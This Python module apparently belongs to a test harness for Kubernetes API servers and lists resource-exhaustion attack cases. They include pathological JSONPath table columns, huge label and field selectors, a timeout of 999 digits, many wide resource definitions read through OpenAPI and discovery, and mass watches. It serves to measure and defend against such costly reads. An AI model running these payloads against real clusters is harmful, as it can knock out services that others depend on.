"""Attacks by reads: answers that cost more than the objects they show."""

from collections.abc import Iterator
from contextlib import ExitStack, suppress

from hack.attacks.client import Answer, Door
from hack.attacks.costly.row import (
    ANYTHING,
    APPS,
    BOMBS,
    DEFAULT,
    DEFINITIONS,
    GROUP,
    TABLE,
    Attack,
    Row,
    after,
    bomb,
    bombing,
    definition,
    post,
    posting,
    reading,
    send,
    template,
    workload,
)

CONFIG_MAPS = f"{DEFAULT}/configmaps"
NUMBERS = {"a": {"l": [0] * 20_000}}
AGAIN = "[" + ",".join("*" * 32) + "]"
PATHS = {
    "members that are named again": f".spec{AGAIN}{AGAIN}[?(@.x)]",
    "filters of filters": ".spec.a.l[?(@ == 0)]",
    "every descendant": "..x",
    "every descendant, filtered": "..[?(@.x)]",
    "ranges of a long list": ".spec.a.l[0:20000:1]",
    "spaces in a bracket": ".a[" + " " * 900 + '"a"x]',
    "spaces in a comparison": ".a[?(@.b" + " " * 900 + "= 1)]",
    "a hundred steps": ".a" * 500,
}


def _table(path: str) -> Attack:
    """Read an object as a table with twenty columns of one path."""
    return after(
        bombing({"spec": ANYTHING}, bomb(spec=NUMBERS), columns=[path] * 20), reading(BOMBS, TABLE, 3)
    )


def _rows(door: Door) -> Iterator[Answer]:
    columns = [".spec.a", ".spec.b", ".metadata.name", ".spec.c[*].d", ".metadata.creationTimestamp"] * 4
    objects = [bomb(f"a{n}", spec={"a": 1, "b": 2, "c": [{"d": 1}] * 5}) for n in range(800)]
    yield from bombing({"spec": ANYTHING}, *objects, columns=columns)(door)
    yield from send(door, [door.request("GET", BOMBS, None, TABLE)] * 2)


def _scale(count: int) -> Attack:
    selector = {
        "matchExpressions": [
            {"key": "app", "operator": "In", "values": ["a", *(f"v{n}" for n in range(count))]}
        ]
    }
    deployment = workload("Deployment", selector=selector, replicas=0)
    return after(posting(f"{APPS}/deployments", deployment), reading(f"{APPS}/deployments/a/scale", None, 5))


def _watched_tables(door: Door) -> Iterator[Answer]:
    yield from bombing({"spec": ANYTHING}, bomb(spec=NUMBERS), columns=[".spec.a.l[*]"] * 20)(door)
    with ExitStack() as stack:
        for _ in range(20):
            with suppress(OSError):
                connection = stack.enter_context(door.connect())
                connection.sendall(door.request("GET", f"{BOMBS}?watch=1", None, TABLE))
                yield Answer(int(connection.recv(64).split(b" ")[1] or b"0"))
        for number in range(5):
            label = {"metadata": {"labels": {"a": str(number)}}}
            yield door.ask("PATCH", f"{BOMBS}/a", label, {"Content-Type": "application/merge-patch+json"})


def _documents(path: str) -> Attack:
    """Read OpenAPI documents while definitions are large, and change between the reads."""

    def attack(door: Door) -> Iterator[Answer]:
        fields = {f"p{n}": {"type": "string", "description": "x" * 100} for n in range(3_000)}
        for number in range(6):
            plural = f"wide{'abcdefgh'[number]}s"
            yield from post(
                door,
                DEFINITIONS,
                definition({"spec": {"type": "object", "properties": fields}}, plural=plural),
            )
            yield from send(door, [door.request("GET", path, None, {"Accept": "application/json"})] * 2)

    return attack


def _discovery(path: str) -> Attack:
    names = [f"many{a}{b}s" for a in "abcdefghij" for b in "abcdefghij"]
    return after(
        lambda door: post(door, DEFINITIONS, *(definition({}, plural=each) for each in names)),
        reading(path, {"Accept": "application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList"}, 10),
    )


def _lists(path: str, accept: str = "application/json", times: int = 3) -> Attack:
    """List objects of some megabytes in total."""
    body = {"data": {f"k{n}": "x" * 100 for n in range(100)}}
    return after(
        lambda door: post(door, CONFIG_MAPS, *({**body, "metadata": {"name": f"c{n}"}} for n in range(200))),
        reading(path, {"Accept": accept}, times),
    )


ROWS = [
    *(Row(f"a table with columns of {name}", _table(path)) for name, path in PATHS.items()),
    Row("a table of many rows and columns", _rows),
    Row("tables that are watched", _watched_tables),
    Row("the scale of a long selector", _scale(20_000)),
    Row("a timeout of a thousand digits", reading(f"{CONFIG_MAPS}?timeout=" + "1" * 999, None, 100)),
    Row("documents of wide definitions, version 2", _documents("/openapi/v2"), size=256),
    Row("documents of wide definitions, version 3", _documents(f"/openapi/v3/apis/{GROUP}/v1"), size=256),
    Row("discovery of a hundred definitions", _discovery("/apis"), size=256),
    Row("discovery of one group", _discovery(f"/apis/{GROUP}/v1"), size=256),
    Row("lists of metadata", _lists(CONFIG_MAPS, "application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io")),
    Row("lists in protobuf", _lists(CONFIG_MAPS, "application/vnd.kubernetes.protobuf")),
    Row("lists for people", _lists(f"{CONFIG_MAPS}?pretty=1")),
    Row("lists in CBOR", _lists(CONFIG_MAPS, "application/cbor")),
    Row("lists of an old version", _lists(f"{CONFIG_MAPS}?resourceVersion=1&resourceVersionMatch=Exact")),
    Row("lists as watches", _lists(
        f"{CONFIG_MAPS}?watch=1&sendInitialEvents=true&allowWatchBookmarks=true&resourceVersionMatch=NotOlderThan&timeoutSeconds=1")),
    Row("selectors of many terms over many objects", _lists(
        f"{CONFIG_MAPS}?labelSelector=" + ",".join(f"!k{n}" for n in range(1_000)))),
    Row("field selectors over many objects", _lists(
        f"{CONFIG_MAPS}?fieldSelector=" + ",".join(f"metadata.name!=x{n}" for n in range(700)))),
    Row("usage by a selector of commas", reading(
        "/apis/metrics.k8s.io/v1beta1/pods?labelSelector=" + "," * 8_000, None, 10)),
    Row("usage by a long set", reading(
        "/apis/metrics.k8s.io/v1beta1/pods?labelSelector=a+in+(" + "a," * 4_000 + "a)", None, 10)),
    Row("a template of many fields, in YAML", after(
        posting(f"{APPS}/deployments", lambda: workload("Deployment", replicas=0, template=template(containers=[
            {"name": f"c{n}", "image": "i", "env": [{"name": f"E{m}", "value": "v"} for m in range(50)]} for n in range(40)]))),
        reading(f"{APPS}/deployments", {"Accept": "application/yaml"}, 3),
    )),
]  # fmt: skip
